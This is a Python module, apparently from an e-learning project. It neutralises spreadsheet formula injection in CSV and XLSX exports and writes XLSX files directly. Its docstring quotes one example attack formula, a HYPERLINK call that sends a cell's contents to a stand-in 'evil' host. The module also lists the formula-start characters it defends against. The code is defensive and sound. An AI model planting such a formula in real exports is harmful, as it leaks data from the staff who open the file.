"""CSV that a spreadsheet opens as data: every text cell that could start a formula is neutralised.

Why: unit names, course titles and learner answers come from people we do not control, and Excel or
LibreOffice evaluate a cell starting with `=`, `+`, `-`, `@` (or a tab / carriage return before one)
as a formula: `=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")` leaks data when staff open the file.
The cell keeps its text, prefixed with `'` (shown as text, not evaluated). Numbers stay numbers.
Every CSV export of the project writes through `csv_writer` (graders' completion report, auto_quiz's
item statistics), every XLSX export through `xlsx_bytes` (an agency's staff list): a spreadsheet reads a text starting
with `=` as a formula, so the same `spreadsheet_cell` defuses those cells too. Pure: no framework
import, so both xblocks and graders can use it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterable
from typing import Any, TextIO
from xml.sax.saxutils import escape, quoteattr

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # "-0.1234" is a number, not a formula
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # + full-width


def spreadsheet_cell(value: Any) -> Any:
    """The value as a spreadsheet will read it safely: numbers unchanged, None empty, text defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.lstrip(" ").startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, out: TextIO, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **options: Any) -> SafeCsvWriter:
    """A CSV writer for any export that leaves this project (options as for `csv.writer`)."""
    return SafeCsvWriter(out, **options)


_ILLEGAL_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # no XML 1.0 document may hold these
_EXCEL_EPOCH = dt.datetime(1899, 12, 30)
_XF_BOLD, _XF_DATE = 1, 2  # cellXfs of _STYLES: 0 plain, 1 bold (the header), 2 a date shown dd/mm/yyyy
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPE}.worksheet+xml"/>'
    f'<Override PartName="/xl/styles.xml" ContentType="{_TYPE}.styles+xml"/></Types>')
_ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PKG_REL}">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PKG_REL}">'
    f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_REL}/styles" Target="styles.xml"/></Relationships>')
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{_MAIN}">'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="DD/MM/YYYY"/></numFmts>'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
    '</fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')


def xlsx_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]], *, sheet_title: str = "Sheet1") -> bytes:
    """An .xlsx workbook of one sheet: the header row in bold, then the rows, every text cell through
    `spreadsheet_cell`; dates stay date cells (shown dd/mm/yyyy), None leaves the cell empty.

    The sheet's XML is written here, one string per row, rather than by openpyxl: its per-cell objects
    made a 10,000-person staff list take over a second (scripts/bench/reports.py), ten times the
    CSV's. Text is stored inline (no shared-string table), which every spreadsheet reads."""
    header = list(header)
    letters: list[str] = []
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as book:
        book.writestr("[Content_Types].xml", _CONTENT_TYPES)
        book.writestr("_rels/.rels", _ROOT_RELS)
        book.writestr("xl/workbook.xml", _workbook(sheet_title[:31]))
        book.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        book.writestr("xl/styles.xml", _STYLES)
        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{_MAIN}">'
                        '<sheetData>'.encode())
            lines = [_row(1, header, letters, _XF_BOLD)]
            for number, row in enumerate(rows, start=2):
                lines.append(_row(number, row, letters))
                if len(lines) >= 1000:
                    sheet.write("".join(lines).encode())
                    lines.clear()
            sheet.write(("".join(lines) + "</sheetData></worksheet>").encode())
    return out.getvalue()


def _workbook(title: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
            f'<sheets><sheet name={quoteattr(_ILLEGAL_XML.sub("", title))} sheetId="1" r:id="rId1"/></sheets>'
            '</workbook>')


def _column(index: int) -> str:
    """The column's letters: 0 -> A, 25 -> Z, 26 -> AA."""
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _row(number: int, values: Iterable[Any], letters: list[str], style: int = 0) -> str:
    """One <row> of the sheet; `letters` caches the column names."""
    cells = []
    for index, value in enumerate(values):
        if index == len(letters):
            letters.append(_column(index))
        if value is not None and value != "":  # an empty text is an empty cell, as openpyxl left it
            cells.append(_cell(f"{letters[index]}{number}", value, style))
    return f'<row r="{number}">{"".join(cells)}</row>'


def _cell(ref: str, value: Any, style: int) -> str:
    styled = f' s="{style}"' if style else ""
    if isinstance(value, dt.date):
        moment = value if isinstance(value, dt.datetime) else dt.datetime.combine(value, dt.time())
        serial = (moment.replace(tzinfo=None) - _EXCEL_EPOCH) / dt.timedelta(days=1)
        return f'<c r="{ref}" s="{_XF_DATE}"><v>{serial:.10g}</v></c>'
    value = spreadsheet_cell(value)
    if isinstance(value, int | float):
        return f'<c r="{ref}"{styled}><v>{value!r}</v></c>'
    text = escape(_ILLEGAL_XML.sub("", value))
    return f'<c r="{ref}"{styled} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
